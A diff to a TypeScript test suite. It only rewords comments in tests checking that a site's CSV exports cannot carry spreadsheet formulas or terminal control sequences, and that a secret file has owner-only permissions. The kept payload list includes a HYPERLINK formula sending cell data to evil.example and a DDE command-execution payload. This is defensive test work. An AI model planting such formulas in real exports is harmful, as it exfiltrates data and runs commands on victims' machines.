@@ -1,4 +1,7 @@
-/** What leaves the site: formulas in spreadsheets, control sequences on screens, files that others could read. */
+/**
+ * Data that leaves the site: formulas in spreadsheets, control sequences on terminals, files that others
+ * could read.
+ */
 import { parse } from 'csv-parse/sync';
 import { mkdirSync, statSync } from 'node:fs';
 import path from 'node:path';
@@ -13,7 +16,7 @@ import { aFullCatalogue } from '../site/aDocument';
 import { aSite, type Site } from '../site/aSite';
 import { poison } from './poison';
 
-/** Each begins as a spreadsheet program takes formulas to begin, some only after what it passes over. */
+/** Each begins like a formula for a spreadsheet program, some after characters that it skips. */
 const FORMULAS = [
   `=HYPERLINK("https://evil.example/?"&A1,"click")`,
   `+1+cmd|' /C calc'!A0`,
@@ -26,7 +29,7 @@ const FORMULAS = [
   ' @SUM(1)',
   '\u3000\uff20SUM(1)',
 ];
-/** As a spreadsheet program judges a cell; a number with a sign is a number. */
+/** Like a spreadsheet program's evaluation of a cell; a number with a sign is a number. */
 const isFormula = (cell: string): boolean =>
   /^[\s\p{Cf}]*[=+\-@\uff1d\uff0b\uff0d\uff20]/u.test(cell) && !/^-?[\d.]+$/.test(cell);
 
@@ -70,7 +73,7 @@ beforeAll(async () => {
 });
 afterAll(() => site?.close());
 
-/** Every command that can write CSV, with every thing that it can be asked for. */
+/** Every command that can write CSV, with all its options. */
 const EXPORTS: Record<string, readonly string[][]> = {
   export: importEntities.map(({ name }) => [name]),
   submissions: SUBMISSION_KINDS.map((kind) => [kind]),
@@ -148,7 +151,7 @@ describe('on the disk', () => {
   it('the secret, and the folder that the first start makes for it, are for the server’s user only', () => {
     const dataDir = path.join(site.folder, 'made', 'var');
     readTokenSecret({}, { dataDir, databaseUrl: undefined, environment: 'development' });
-    // Root's may be passed through, since another user runs the database.
+    // Root's directory may be traversed, because another user runs the database.
     expect(modeOf(dataDir)).toBe(process.getuid?.() === 0 ? 0o711 : 0o700);
     expect(modeOf(path.join(dataDir, 'token-secret'))).toBe(0o600);
   });
